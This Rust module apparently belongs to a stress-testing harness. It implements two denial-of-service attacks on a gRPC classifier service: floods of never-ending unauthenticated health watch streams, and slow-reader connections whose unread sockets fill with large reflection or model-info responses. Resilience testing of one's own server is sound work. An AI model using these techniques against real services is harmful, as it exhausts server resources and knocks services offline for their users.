//! Answers that are never read, and streams without end.

use std::io;
use std::time::Duration;

use super::attack::{Attack, Session};
use super::connection::AttackConnection;
use super::target::Target;

const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const INFO: &str = "/certimix.v1.MixedClassifier/GetModelInfo";
/// `ServerReflectionRequest { file_containing_symbol: "certimix.v1.MixedClassifier" }`
const SYMBOL_REQUEST: &[u8] = b"\x22\x1bcertimix.v1.MixedClassifier";

/// Health watches, which need no token and never end, on one connection.
pub struct HealthWatches {
    pub watches: usize,
    pub hold: Duration,
}

impl Attack for HealthWatches {
    fn name(&self) -> &'static str {
        "health watches"
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connection = AttackConnection::open(target, session)?;
        for _ in 0..self.watches {
            connection.send_request(HEALTH_WATCH, &[], &[], session)?;
            session.count_sent(1);
        }
        session.wait(self.hold);
        Ok(())
    }
}

/// Requests for long answers on one connection whose socket is never read.
pub struct SlowReaders {
    pub connections: usize,
    pub requests: usize,
    pub hold: Duration,
    /// Whether the answers are those of one reflection stream, instead of calls of GetModelInfo.
    pub reflection: bool,
}

impl SlowReaders {
    fn open(&self, target: &Target, session: &Session) -> io::Result<AttackConnection> {
        // The windows permit a MiB for each stream, so that the answers fill the socket.
        let mut connection = AttackConnection::open_unread(target, session, 1 << 20)?;
        if self.reflection {
            let stream = connection.start_request(REFLECTION, &[])?;
            let mut requests = super::raw_http2::grpc_message(SYMBOL_REQUEST.len(), SYMBOL_REQUEST);
            requests = requests.repeat(self.requests);
            // Without a reader no window grows: the initial one bounds what is sent.
            requests.truncate(60_000);
            connection.send_data(stream, &requests, session)?;
            session.count_sent(self.requests as u64);
        } else {
            for _ in 0..self.requests {
                connection.send_request(INFO, &[], &[], session)?;
                session.count_sent(1);
            }
        }
        Ok(connection)
    }
}

impl Attack for SlowReaders {
    fn name(&self) -> &'static str {
        if self.reflection {
            "unread reflection"
        } else {
            "slow readers"
        }
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut open = Vec::new();
        for _ in 0..self.connections {
            open.push(self.open(target, session)?);
        }
        session.wait(self.hold);
        Ok(())
    }
}
